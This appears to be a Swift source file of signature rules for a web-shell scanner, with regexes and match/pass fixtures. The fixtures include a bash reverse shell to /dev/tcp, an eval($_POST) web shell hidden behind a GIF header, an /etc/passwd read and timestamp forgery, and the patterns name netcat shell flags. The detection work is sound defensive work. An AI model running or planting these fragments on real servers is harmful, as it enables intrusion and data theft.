/// What sets the scene: ordinary alone, telling beside other evidence.
enum ContextRules {
  private static let servers: Set<ScriptLanguage> = [
    .php, .jsp, .asp, .aspx, .perl, .python, .cgi, .cfml, .ruby, .node,
  ]

  static let all: [SignatureRule] = [
    SignatureRule(
      "context.password-digest", [.php], .context, .strong, "a parameter's digest opens the door",
      #"\b(?:md5|sha1)\((?:\w+\()?@?\$_(?:post|get|request|cookie)\[[^\]]*\]\)?\)={2,3}'[0-9a-f]{32,40}'|'[0-9a-f]{32,40}'={2,3}(?:md5|sha1)\(@?\$_(?:post|get|request|cookie)"#,
      finds: ["<?php if (md5($_POST['p']) === 'd41d8cd98f00b204e9800998ecf8427e') x();"],
      passes: ["<?php if (md5($_POST['p']) == $row['password']) x();"]),
    SignatureRule(
      "context.reverse-shell", servers, .context, .strong, "a shell that calls home",
      #"/bin/(?:ba)?sh['"]?,? ?['"]?-i\b|/dev/tcp/|\bnc(?:\.exe)? -(?:e|l)\b|socket\.connect\(\([^)]*\)\)[^\n]*os\.dup2"#,
      view: .raw, finds: ["<?php $shell = '/bin/sh -i';", "bash -i >& /dev/tcp/10.0.0.1/80"],
      passes: ["#!/bin/sh -e\necho"]),
    SignatureRule(
      "context.command-interpreter", servers, .context, .weak, "Windows's command interpreter is named",
      #"cmd(?:\.exe)?['"]?[ ,+&]{0,4}['"]? ?/c\b|\bcmd\.exe\b"#, view: .raw, finds: ["<% run(\"cmd.exe /c \" + c) %>"],
      passes: ["<% cmd.Execute %>"]),
    SignatureRule(
      "context.accounts", servers, .context, .weak, "the system's accounts are named", #"/etc/(?:passwd|shadow)\b"#,
      view: .raw, finds: ["<?php readfile('/etc/passwd');"], passes: ["<?php $passwd = '/etc/pass';"]),
    SignatureRule(
      "context.restrictions", [.php], .context, .weak, "PHP's restrictions are asked for",
      #"\b(?:ini_get|get_cfg_var|ini_restore|ini_set)\('(?:disable_functions|safe_mode|open_basedir)'"#,
      finds: ["<?php echo ini_get('disable_functions');"], passes: ["<?php ini_get('memory_limit');"]),
    SignatureRule(
      "context.silence", [.php], .context, .weak, "errors are silenced and time is without limit",
      #"error_reporting\((?:0|null|false)\)[^a-z$]{0,4}(?:@?(?:set_time_limit\(0|ini_set\(|ignore_user_abort|session_start|header|clearstatcache|\$_|if\(|eval|function))"#,
      finds: ["<?php error_reporting(0); @set_time_limit(0);"],
      passes: ["<?php error_reporting(E_ALL); set_time_limit(0);"]),
    SignatureRule(
      "context.persists", [.php], .context, .weak, "a file that configures the server is written or made again",
      #"\b(?:file_put_contents|fopen|fwrite|unlink|chmod|touch)\([^;]*'[^']*(?:\.htaccess|\.user\.ini|php\.ini)'|\bunlink\(__file__\)|ignore_user_abort\((?:1|true)\);"#,
      finds: ["<?php file_put_contents('.htaccess', $x);", "<?php ignore_user_abort(true);"],
      passes: ["<?php unlink($x);"]),
    SignatureRule(
      "context.system-figures", [.php], .context, .weak, "the system introduces itself",
      #"\b(?:php_uname|posix_getuid|posix_geteuid|posix_getpwuid|get_current_user)\("#,
      finds: ["<?php echo php_uname();"],
      passes: ["<?php uname();"]),
    SignatureRule(
      "context.forged-time", [.php], .context, .weak, "a file's time is forged",
      #"\btouch\([^;]*,[^;]*(?:filemtime|strtotime|\d{9})"#,
      finds: ["<?php touch(__FILE__, strtotime('2012-01-01'));"], passes: ["<?php touch($f);"]),
    SignatureRule(
      "context.words", servers, .context, .weak, "words of a shell's page",
      #"execute (?:command|shell|php)|command execut|run command|(?:upload|edit) shell|back ?connect|bind ?(?:shell|port)|self ?remove|reverse shell|file ?man(?:ager)?\b.*(?:cmd|shell)|(?:cmd|command)['"]? ?(?:>|value|size)[^>]*>|mass deface|symlink|config grabber|cpanel (?:crack|reset)"#,
      view: .raw, finds: ["<input name=cmd size=40>", "Execute command:"], passes: ["<p>Commander</p>"]),
    SignatureRule(
      "context.in-picture", [.php], .context, .strong, "code within a picture",
      #"^(?:GIF8[79]a|\xff\xd8\xff|\x89PNG).*<\?(?:php|=)[^a-z].*(?:eval|assert|system|\$_(?:get|post|request|cookie)|base64_decode)"#,
      view: .raw, finds: ["GIF89a<?php eval($_POST[1]);"], passes: ["GIF89a and nothing else"]),
    SignatureRule(
      "dual-use.database-tool", [.php, .asp, .aspx, .jsp], .dualUse, .strong, "a database front end in one file",
      #"\badminer\b.*(?:compact|database management)|phpminiadmin|bigdump: staggered|\bphp ?my ?backup|sypex dumper|mysql-dump(?:er)?\b|\bsqlbuddy\b"#,
      view: .raw, finds: ["<?php /** Adminer - Compact database management */"], passes: ["<?php // administration"]),
    SignatureRule(
      "dual-use.probe", [.php, .asp, .aspx], .dualUse, .strong, "a probe of the server's settings",
      #"yahei\.net|php ?探针|phpinfo\(\);\s*(?:\?>)?\s*$|aspcheck|\bprober?\.php\b"#, view: .raw,
      finds: ["<?php phpinfo(); ?>"], passes: ["<?php info();"]),
  ]
}
